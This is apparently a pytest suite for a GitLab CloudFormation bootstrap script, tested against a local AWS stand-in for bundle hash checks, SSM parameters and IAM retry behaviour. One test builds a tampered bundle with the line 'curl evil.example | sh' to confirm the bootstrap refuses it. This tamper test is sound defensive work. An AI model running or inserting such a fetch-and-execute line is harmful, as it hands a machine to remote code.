"""The bootstrap (scripts/bootstrap.sh) run for real: the user data a server receives,
against the local AWS stand-in's S3 and SSM, with the AWS CLI.

The AWS CLI is the real one when the repository's tool environments or the PATH have
it; otherwise a stand-in written with boto3 that accepts exactly the two calls the
bootstrap makes (and says so in the test output). ``cfn-signal`` is a fake that
checks its arguments. Paths are under a scratch root (GITLAB_CFN_ROOT).
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
import subprocess
import sys
import threading
import time
from pathlib import Path

import boto3
import pytest
from gitlab_cfn.compile import bundle, userdata
from gitlab_cfn.standin import StandIn
from support import shellcheck

ROOT = Path(__file__).resolve().parent.parent
REGION = "eu-west-1"
BUCKET = "gitlab-cfn-templates"
PREFIX = "gitlab-cfn/gl/0a1b2c3d4e5f/"

# A role script that proves it ran, from the bundle, with the preamble's values exported.
ROLE_SCRIPT = b"""# shellcheck shell=bash
set -euo pipefail
printf '%s %s %s\\n' "$BOOT_ROLE" "$CFN_RESOURCE" "$0" >"$GITLAB_CFN_ROOT/role-script-ran"
"""

CFN_SIGNAL = """#!/bin/bash
# Fake cfn-signal: checks its arguments as the real one parses them, records the call.
set -euo pipefail
[[ $# -eq 8 && $1 == --exit-code && $2 =~ ^[0-9]+$ && $3 == --stack && -n $4 && $5 == --resource && -n $6 &&
   $7 == --region && $8 =~ ^[a-z]{2}-[a-z]+-[0-9]$ ]] || { echo "cfn-signal: bad arguments: $*" >&2; exit 2; }
echo "$*" >>"$FAKE_STATE/signals.log"
"""

# Used only when no AWS CLI is installed: the two calls the bootstrap makes, through boto3,
# refusing anything else.
AWS_WITH_BOTO3 = f"""#!{sys.executable}
import sys, boto3
args = sys.argv[1:]
def take(name):
    i = args.index(name); value = args[i + 1]; del args[i:i + 2]; return value
region = take("--region")
if args[:2] == ["s3api", "get-object"]:
    bucket, key = take("--bucket"), take("--key")
    assert len(args) == 3, args
    body = boto3.client("s3", region_name=region).get_object(Bucket=bucket, Key=key)["Body"].read()
    open(args[2], "wb").write(body)
    print("{{}}")
elif args[:2] == ["ssm", "get-parameter"]:
    name = take("--name")
    assert take("--query") == "Parameter.Value" and take("--output") == "text" and len(args) == 2, args
    print(boto3.client("ssm", region_name=region).get_parameter(Name=name)["Parameter"]["Value"])
else:
    sys.stderr.write(f"aws: unexpected call {{sys.argv[1:]}}\\n"); sys.exit(2)
"""


def real_aws_cli() -> str | None:
    for candidate in (ROOT / ".venv-awscli" / "bin" / "aws", ROOT / ".venv-standin" / "bin" / "aws",
                      ROOT / ".venv" / "bin" / "aws"):
        if candidate.exists():
            return str(candidate)
    found = shutil.which("aws")
    if found and subprocess.run([found, "--version"], capture_output=True).returncode == 0:
        return found
    return None


@pytest.fixture(params=["aws-cli", "boto3"])
def server(request, tmp_path, local_aws, standin):
    """A scratch server: bin folder (cfn-signal, the AWS CLI), root, state, environment;
    once with the installed AWS CLI, once with the boto3 stand-in for it."""
    bin_dir, state, root = tmp_path / "bin", tmp_path / "state", tmp_path / "root"
    for folder in (bin_dir, state, root):
        folder.mkdir()
    (bin_dir / "cfn-signal").write_text(CFN_SIGNAL)
    aws = real_aws_cli() if request.param == "aws-cli" else None
    if request.param == "aws-cli" and aws is None:
        pytest.skip("no AWS CLI installed (.venv-awscli, .venv-standin, .venv or PATH): the boto3 run covers it")
    if aws is None:
        (bin_dir / "aws").write_text(AWS_WITH_BOTO3)
        print("no AWS CLI installed: the bootstrap's two calls go through boto3")
    else:
        (bin_dir / "aws").symlink_to(aws)
        print(f"AWS CLI: {aws}")
    for tool in bin_dir.iterdir():
        tool.chmod(0o755)
    env = {
        "PATH": f"{bin_dir}:/usr/local/bin:/usr/bin:/bin",
        "HOME": str(tmp_path), "GITLAB_CFN_ROOT": str(root), "FAKE_STATE": str(state),
        "AWS_ENDPOINT_URL": standin.endpoint, "AWS_ACCESS_KEY_ID": "testing", "AWS_SECRET_ACCESS_KEY": "testing",
        "AWS_CONFIG_FILE": str(tmp_path / "no-config"), "AWS_SHARED_CREDENTIALS_FILE": str(tmp_path / "no-creds"),
    }
    s3 = local_aws.client("s3", REGION)
    s3.create_bucket(Bucket=BUCKET, CreateBucketConfiguration={"LocationConstraint": REGION})
    return {"root": root, "state": state, "env": env, "s3": s3, "ssm": local_aws.client("ssm", REGION),
            "dir": tmp_path}


def publish(server, data: bytes, sha256: str | None = None) -> tuple[str, str]:
    """Upload a bundle at the key the templates compute; return (key, sha256 named in the key)."""
    sha256 = sha256 or hashlib.sha256(data).hexdigest()
    key = PREFIX + bundle.key(sha256)
    server["s3"].put_object(Bucket=BUCKET, Key=key, Body=data)
    return key, sha256


def boot(server, role: str, location: dict[str, str]):
    """Run the user data ``role`` receives, as cloud-init runs it."""
    values = {"AWS_REGION": REGION, "CFN_STACK": "gl-AppStack-1A2B3C", "CFN_RESOURCE": "Server", **location}
    path = server["dir"] / "user-data"
    path.write_text(userdata.render(role, values))
    return subprocess.run(["bash", str(path)], capture_output=True, text=True, env=server["env"], timeout=120)


def signals(server) -> list[str]:
    log = server["state"] / "signals.log"
    return log.read_text().splitlines() if log.exists() else []


def test_fetches_checks_unpacks_and_runs_the_role_script(server):
    data = bundle.pack({"gitlab-app.sh": ROLE_SCRIPT, "gitaly.sh": b"exit 3\n"})
    key, sha = publish(server, data)
    result = boot(server, "gitlab-app", {"BUNDLE_BUCKET": BUCKET, "BUNDLE_KEY": key, "BUNDLE_REGION": REGION,
                                         "BUNDLE_SHA256": sha})
    assert result.returncode == 0, result.stderr
    unpacked = server["root"] / "opt" / "gitlab-cfn" / "boot" / sha
    ran = (server["root"] / "role-script-ran").read_text().split()
    assert ran == ["gitlab-app", "Server", str(unpacked / "gitlab-app.sh")]
    assert (unpacked / "gitlab-app.sh").read_bytes() == ROLE_SCRIPT
    assert sorted(p.name for p in unpacked.parent.iterdir()) == [sha]   # nothing half-written left
    assert signals(server) == []   # success is the role script's to signal
    assert f"running gitlab-app.sh of bundle {sha}" in result.stderr


def test_the_real_bundle_runs_its_role_script(server):
    """The build's own bundle: the bastion's script starts (and fails here, without apt or
    systemd: the role script's own trap then signals, not the bootstrap's)."""
    built = bundle.build()
    key, sha = publish(server, built.data)
    result = boot(server, "bastion", {"BUNDLE_BUCKET": BUCKET, "BUNDLE_KEY": key, "BUNDLE_REGION": REGION,
                                      "BUNDLE_SHA256": sha})
    assert f"running bastion.sh of bundle {built.sha256}" in result.stderr
    assert "gitlab-cfn[bastion]: starting" in result.stderr
    unpacked = server["root"] / "opt" / "gitlab-cfn" / "boot" / sha / "bastion.sh"
    assert unpacked.read_text() == userdata.body("bastion")


def test_a_wrong_hash_is_refused_and_signalled(server):
    genuine = bundle.pack({"gitlab-app.sh": ROLE_SCRIPT})
    tampered = bundle.pack({"gitlab-app.sh": ROLE_SCRIPT + b"curl evil.example | sh\n"})
    key, sha = publish(server, tampered, sha256=hashlib.sha256(genuine).hexdigest())
    result = boot(server, "gitlab-app", {"BUNDLE_BUCKET": BUCKET, "BUNDLE_KEY": key, "BUNDLE_REGION": REGION,
                                         "BUNDLE_SHA256": sha})
    assert result.returncode == 1
    actual = hashlib.sha256(tampered).hexdigest()
    assert (f"error: boot bundle s3://{BUCKET}/{key} has sha256 {actual}, expected {sha}: not running it"
            in result.stderr)
    assert not (server["root"] / "role-script-ran").exists()
    assert not (server["root"] / "opt" / "gitlab-cfn" / "boot" / sha).exists()
    assert signals(server) == [f"--exit-code 1 --stack gl-AppStack-1A2B3C --resource Server --region {REGION}"]


def test_a_key_that_does_not_name_the_hash_is_refused(server):
    data = bundle.pack({"gitlab-app.sh": ROLE_SCRIPT})
    key, sha = publish(server, data)
    result = boot(server, "gitlab-app", {"BUNDLE_BUCKET": BUCKET, "BUNDLE_KEY": key, "BUNDLE_REGION": REGION,
                                         "BUNDLE_SHA256": "f" * 64})
    assert result.returncode == 1
    assert f"does not name the bundle {'f' * 64}" in result.stderr
    assert len(signals(server)) == 1


def test_gitaly_reads_the_location_from_its_ssm_parameter(server):
    data = bundle.pack({"gitaly.sh": ROLE_SCRIPT})
    key, sha = publish(server, data)
    name = "/gitlab-cfn/gl/gitaly/boot-bundle"
    server["ssm"].put_parameter(Name=name, Type="String", Value=json.dumps(
        {"bucket": BUCKET, "key": key, "region": REGION, "sha256": sha}))
    result = boot(server, "gitaly", {"BUNDLE_PARAMETER": name})
    assert result.returncode == 0, result.stderr
    assert (server["root"] / "role-script-ran").read_text().split()[0] == "gitaly"

    server["ssm"].put_parameter(Name=name, Type="String", Overwrite=True, Value="not json")
    (server["root"] / "role-script-ran").unlink()
    refused = boot(server, "gitaly", {"BUNDLE_PARAMETER": name})
    assert refused.returncode == 1
    assert f"SSM parameter {name} does not hold the bundle's location as JSON" in refused.stderr
    assert not (server["root"] / "role-script-ran").exists()
    assert len(signals(server)) == 1


def test_a_parameter_naming_another_bundle_than_the_launch_template_is_refused(server):
    """The app's launch template pins the sha256 of its build's bundle: a parameter that
    names another one (the stack is mid-update, or the parameter was changed by hand) is
    refused before anything is downloaded, and the failure is signalled."""
    ours = bundle.pack({"gitlab-app.sh": ROLE_SCRIPT})
    theirs = bundle.pack({"gitlab-app.sh": ROLE_SCRIPT + b"# another build\n"})
    name = "/gitlab-cfn/gl/gitlab-app/boot-bundle"
    key, sha = publish(server, theirs)
    _, ours_sha = publish(server, ours)
    server["ssm"].put_parameter(Name=name, Type="String", Value=json.dumps(
        {"bucket": BUCKET, "key": key, "region": REGION, "sha256": sha}))
    refused = boot(server, "gitlab-app", {"BUNDLE_PARAMETER": name, "BUNDLE_SHA256": ours_sha})
    assert refused.returncode == 1
    assert (f"error: SSM parameter {name} names bundle '{sha}', the launch template {ours_sha}: not running it"
            in refused.stderr), refused.stderr
    assert "downloading" not in refused.stderr
    assert not (server["root"] / "role-script-ran").exists()
    assert signals(server) == [f"--exit-code 1 --stack gl-AppStack-1A2B3C --resource Server --region {REGION}"]

    # The launch template of that build runs it.
    result = boot(server, "gitlab-app", {"BUNDLE_PARAMETER": name, "BUNDLE_SHA256": sha})
    assert result.returncode == 0, result.stderr
    assert (server["root"] / "role-script-ran").read_text().split()[0] == "gitlab-app"
    assert len(signals(server)) == 1


def _default(script: str, variable: str) -> int:
    text = (ROOT / "scripts" / script).read_text()
    found = re.search(rf'^{variable}="\$\{{GITLAB_CFN_DENIED_BUDGET:-(\d+)\}}"$', text, re.M)
    assert found, f"{script} sets no {variable} from GITLAB_CFN_DENIED_BUDGET"
    return int(found.group(1))


def test_the_bootstrap_waits_out_access_denied_as_long_as_the_role_scripts():
    """A new stack's grants reach IAM late; the bootstrap is the first to read with them."""
    budget = _default("bootstrap.sh", "BOOT_DENIED_BUDGET")
    assert budget == _default("lib/common.sh", "DENIED_BUDGET") >= 600


def _enforcing_standin(tmp_path, monkeypatch):
    """A stand-in that enforces IAM (after the first three calls: the administrator's setup),
    an administrator's client, and a user with no permission yet for the server."""
    monkeypatch.setenv("INITIAL_NO_AUTH_ACTION_COUNT", "3")
    enforcing = StandIn(log=tmp_path / "standin.log").start()
    monkeypatch.delenv("INITIAL_NO_AUTH_ACTION_COUNT")
    endpoint = dict(endpoint_url=enforcing.endpoint, region_name=REGION)
    iam = boto3.client("iam", aws_access_key_id="testing", aws_secret_access_key="testing", **endpoint)
    iam.create_user(UserName="admin")
    iam.put_user_policy(UserName="admin", PolicyName="all", PolicyDocument=json.dumps(
        {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}))
    admin = iam.create_access_key(UserName="admin")["AccessKey"]
    keys = dict(aws_access_key_id=admin["AccessKeyId"], aws_secret_access_key=admin["SecretAccessKey"], **endpoint)
    iam = boto3.client("iam", **keys)
    iam.create_user(UserName="server")
    return enforcing, keys, iam, iam.create_access_key(UserName="server")["AccessKey"]


@pytest.mark.parametrize("granted", [True, False], ids=["granted-late", "never-granted"])
def test_access_denied_is_waited_out_until_the_grant_arrives(server, tmp_path, monkeypatch, granted):
    """The AWS CLI signed with a user's keys against a stand-in that enforces IAM: the grant
    arrives a few seconds into the boot (as a new stack's grants do), and the bootstrap reads
    the parameter and the bundle; without a grant it gives up at its budget."""
    enforcing, keys, iam, user = _enforcing_standin(tmp_path, monkeypatch)
    try:
        s3 = boto3.client("s3", **keys)
        s3.create_bucket(Bucket=BUCKET, CreateBucketConfiguration={"LocationConstraint": REGION})
        data = bundle.pack({"gitaly.sh": ROLE_SCRIPT})
        sha = hashlib.sha256(data).hexdigest()
        key = PREFIX + bundle.key(sha)
        s3.put_object(Bucket=BUCKET, Key=key, Body=data)
        name = "/gitlab-cfn/gl/gitaly/boot-bundle"
        boto3.client("ssm", **keys).put_parameter(Name=name, Type="String", Value=json.dumps(
            {"bucket": BUCKET, "key": key, "region": REGION, "sha256": sha}))
        server["env"].update({
            "AWS_ENDPOINT_URL": enforcing.endpoint,
            "AWS_ACCESS_KEY_ID": user["AccessKeyId"], "AWS_SECRET_ACCESS_KEY": user["SecretAccessKey"],
            "GITLAB_CFN_DENIED_DELAY": "1", "GITLAB_CFN_DENIED_BUDGET": "30" if granted else "3",
            # Any other error gives up at once: a denial must not count as one.
            "GITLAB_CFN_QUICK_ATTEMPTS": "1"})
        grant = threading.Timer(4, lambda: iam.put_user_policy(
            UserName="server", PolicyName="boot", PolicyDocument=json.dumps({
                "Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Resource": "*", "Action": [
                    "ssm:GetParameter", "s3:GetObject"]}]})))
        started = time.monotonic()
        if granted:
            grant.start()
        try:
            result = boot(server, "gitaly", {"BUNDLE_PARAMETER": name})
        finally:
            grant.cancel()
        # AWS answers AccessDeniedException; moto's IAM enforcement a 403 whose XML body says AccessDenied.
        waits = re.findall(r"aws ssm get-parameter: retrying in (\d+)s: An error occurred", result.stderr)
        if granted:
            assert result.returncode == 0, result.stderr
            assert (server["root"] / "role-script-ran").read_text().split()[0] == "gitaly"
            assert waits[:2] == ["1", "2"], result.stderr
            assert time.monotonic() - started >= 4
        else:
            assert result.returncode == 1
            assert waits == ["1", "2"], result.stderr
            assert "aws ssm get-parameter failed: An error occurred (403)" in result.stderr
            assert f"error: cannot read SSM parameter {name}" in result.stderr
            assert not (server["root"] / "role-script-ran").exists()
            assert len(signals(server)) == 1
    finally:
        enforcing.stop()


def test_bootstrap_is_shellcheck_clean():
    path = ROOT / "scripts" / "bootstrap.sh"
    shellcheck.assert_clean(path)
    assert os.access(path, os.R_OK)
